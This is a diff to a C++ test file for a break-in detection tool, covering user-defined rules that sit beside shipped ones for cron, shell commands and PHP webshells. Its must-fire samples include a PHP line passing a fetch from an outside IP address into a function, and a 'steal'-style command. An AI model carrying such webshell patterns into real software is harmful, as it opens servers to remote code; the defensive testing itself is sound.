@@ -3,40 +3,17 @@
 #include <gtest/gtest.h>
 
 #include "mini_root.hpp"
+#include "php_analysis.hpp"
+#include "rescue/detect/rule_check.hpp"
+#include "rule_examples.hpp"
 
 namespace rescue::detect {
 namespace {
 
-/// Older than anything the examples tell, so that files without a date of their own lie before every
-/// break-in.
-const Timestamp kLongAgo = parse_rfc3339("2026-01-01T00:00:00Z").value();
-
-/// An example in its family's short form, a text, as the tree it stands for.
-Json scene_of(const Rule& rule, const Json& example) {
-  if (example.is_object()) return example;
-  const auto text = example.get<std::string>();
-  Json files{{"/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nu:x:1000:1000::/home/u:/bin/sh\n"}};
-  if (rule.family() == "cron") {
-    files["/var/spool/cron/crontabs/u"] = text + "\n";
-  } else if (rule.family() == "commands") {
-    files["/home/u/.bash_history"] = "#1789264811\n" + text + "\n";
-  } else {
-    files["/var/www/html/app/page.php"] = text;
-  }
-  return {{"files", files}};
-}
-
-/// Nothing where the example cannot be laid out by this user.
 std::optional<bool> fires(const Rule& rule, const Json& example) {
+  static const auto book = RuleBook::shipped();
   MiniRoot root;
-  const auto scene = scene_of(rule, example);
-  root.lay_out(scene, kLongAgo);
-  if (!root.give_rights(scene)) return std::nullopt;
-  const auto document = root.investigate();
-  for (const auto& finding : document.at("findings")) {
-    if (finding.at("rule") == rule.id) return true;
-  }
-  return false;
+  return fires(book, rule, example, root);
 }
 
 class EveryRule : public testing::TestWithParam<std::string> {};
@@ -109,6 +86,84 @@ TEST(RuleLoader, RefusesAnIdThatOccursTwice) {
   const auto book = RuleBook::load(files);
   ASSERT_FALSE(book);
   EXPECT_EQ(book.error().problem, "duplicate-item");
+}
+
+Result<RuleBook> with_own(const Json& rule) {
+  const auto text = dump_json(rule);
+  const EmbeddedFile files[] = {{"own.json", text}};
+  return RuleBook::shipped_with(files);
+}
+
+TEST(OwnRules, StandBesideTheShippedOnesAndFire) {
+  auto json = valid_rule();
+  json["id"] = "commands.own_tool";
+  json["match"] = {{"any", {{{"program", {"owntool"}}, {"argument", {"--steal*"}}}}}};
+  json["examples"] = {{"must_fire", {"owntool --steal-all"}}, {"must_not_fire", {"owntool --help"}}};
+  const auto book = with_own(json);
+  ASSERT_TRUE(book) << book.error().detail;
+  const auto& rule = book->rule("commands.own_tool");
+  MiniRoot one, other;
+  EXPECT_EQ(fires(*book, rule, rule.must_fire[0], one), true);
+  EXPECT_EQ(fires(*book, rule, rule.must_not_fire[0], other), false);
+  EXPECT_EQ(book->all().size(), RuleBook::shipped().all().size() + 1);
+}
+
+TEST(OwnRules, FireAlsoWhereNoWordOfTheShippedOnesStands) {
+  auto json = valid_rule();
+  json["id"] = "webshell.own_call";
+  json["match"] = {{"from", {"network"}}, {"arguments", {{"own_call", {0}}}}};
+  json["examples"] = {{"must_fire", {"<?php own_call(file_get_contents('http://198.51.100.7/x'));"}},
+                      {"must_not_fire", {"<?php own_call('x');"}}};
+  const auto book = with_own(json);
+  ASSERT_TRUE(book) << book.error().detail;
+  EXPECT_EQ(check_examples(*book, book->rule("webshell.own_call")), std::vector<std::string>{});
+  EXPECT_FALSE(php_words_are_enough(*book));
+  EXPECT_TRUE(php_words_are_enough(RuleBook::shipped()));
+}
+
+TEST(OwnRules, AreToldWhichOfTheirExamplesDoNotHold) {
+  auto json = valid_rule();
+  json["id"] = "commands.own_tool";
+  json["match"] = {{"any", {{{"program", {"owntool"}}}}}};
+  json["examples"] = {{"must_fire", {"owntool", "other"}}, {"must_not_fire", {"owntool --help", {{"f", 1}}}}};
+  const auto book = with_own(json);
+  ASSERT_TRUE(book) << book.error().detail;
+  const auto faults = check_examples(*book, book->rule("commands.own_tool"));
+  ASSERT_EQ(faults.size(), 3U);
+  EXPECT_EQ(faults[0], "must_fire, example 2: the rule does not fire");
+  EXPECT_EQ(faults[1], "must_not_fire, example 1: the rule fires");
+  EXPECT_TRUE(faults[2].starts_with("must_not_fire, example 2: "));
+}
+
+TEST(OwnRules, AreRefusedWithFileAndReason) {
+  const auto detail = [](const std::string& id, const Json& match) {
+    auto json = valid_rule();
+    json["id"] = id;
+    json["match"] = match;
+    const auto book = with_own(json);
+    return book ? "taken" : book.error().detail;
+  };
+  const Json shell{{"any", {{{"program", {"x"}}}}}};
+  EXPECT_EQ(detail("cron.mine", shell), "taken");
+  EXPECT_EQ(detail("staging.miner", shell), "own.json: staging.miner: the id is a shipped rule's");
+  EXPECT_TRUE(
+      detail("ssh.mine", {{"failures", 3}}).starts_with("own.json: ssh.mine: its match is of no form"));
+  for (const Json& condition : std::vector<Json>{{{"programm", {"x"}}},
+                                                 {{"program", "x"}},
+                                                 {{"program", {1}}},
+                                                 {{"feeds", {{"from", {"x"}}}}},
+                                                 {{"runs_hidden", "yes"}},
+                                                 Json::array(),
+                                                 Json::object()})
+    EXPECT_NE(detail("cron.mine", {{"any", {condition}}}), "taken") << condition;
+  EXPECT_NE(detail("cron.mine", {{"any", Json::array()}}), "taken");
+  EXPECT_NE(detail("webshell.mine", {{"from", {"heaven"}}, {"arguments", {{"system", {0}}}}}), "taken");
+  EXPECT_NE(detail("webshell.mine", {{"from", {"request"}}, {"arguments", {{"system", "first"}}}}), "taken");
+  EXPECT_NE(detail("webshell.mine", {{"language", "jsp"}, {"sources", {"a"}}}), "taken");
+  EXPECT_EQ(detail("webshell.mine", {{"from", {"request"}}, {"arguments", {{"own_exec", {0}}}}}), "taken");
+  EXPECT_NE(detail("boot.mine", {{"places", {{{"form", "poem"}, {"paths", {"/etc/x"}}}}}}), "taken");
+  EXPECT_NE(detail("boot.mine", {{"places", {{{"form", "shell"}, {"paths", "/etc/x"}}}}}), "taken");
+  EXPECT_EQ(detail("boot.mine", {{"places", {{{"form", "shell"}, {"paths", {"/etc/own.d/*"}}}}}}), "taken");
 }
 
 }  // namespace
